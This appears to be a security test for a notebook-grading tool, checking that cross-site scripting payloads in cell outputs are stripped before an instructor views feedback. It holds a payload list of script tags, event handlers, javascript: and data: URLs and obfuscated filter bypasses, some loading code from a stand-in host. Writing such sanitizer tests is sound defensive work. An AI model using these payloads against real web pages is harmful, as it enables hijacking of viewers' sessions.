"""Scripts in outputs

tries: to run in the instructor's browser when feedback is read
stopped by: only harmless tags and attributes are kept
deserves: all
"""

# %% after setup
from IPython.display import HTML, Javascript, display

WAYS = """
<script>window.attacked = 1</script><SCRIPT SRC=//attacker.invalid/x.js></SCRIPT>
<script type="module">window.attacked = 1</script><scr<script>ipt>attacked = 1</scr</script>ipt>
<img src=x onerror=window.attacked=1><img src=x oNerRor = "window.attacked=1">
<svg/onload=window.attacked=1><svg><script>window.attacked=1</script></svg>
<body onload=window.attacked=1><input autofocus onfocus=window.attacked=1>
<iframe src="javascript:parent.attacked=1"></iframe><iframe srcdoc="<script>1</script>"></iframe>
<object data="data:text/html,<script>1</script>"></object><embed src="//attacker.invalid/x.swf">
<a href="javascript:window.attacked=1">go</a><a href=" java\tscript:window.attacked=1">go</a>
<a href="&#106;avascript:window.attacked=1">go</a><a href="vbscript:x">go</a>
<a href="data:text/html,<script>1</script>">go</a><a href="DATA:text/html;base64,PHNjcmlwdD4=">go</a>
<form action="javascript:window.attacked=1"><button formaction="javascript:1">go</button></form>
<math><a xlink:href="javascript:window.attacked=1">go</a></math><marquee onstart=attacked=1>x
<video><source onerror=window.attacked=1></video><details open ontoggle=window.attacked=1>x</details>
<meta http-equiv="refresh" content="0;url=//attacker.invalid/"><base href="//attacker.invalid/">
<link rel=stylesheet href="//attacker.invalid/x.css"><template><script>1</script></template>
"""
for line in WAYS.strip().splitlines():
    display(HTML(line))
    display({"text/html": line}, raw=True, metadata={"text/html": {"isolated": True}})
display(Javascript("window.attacked = 1"), Javascript(url="https://attacker.invalid/x.js"))
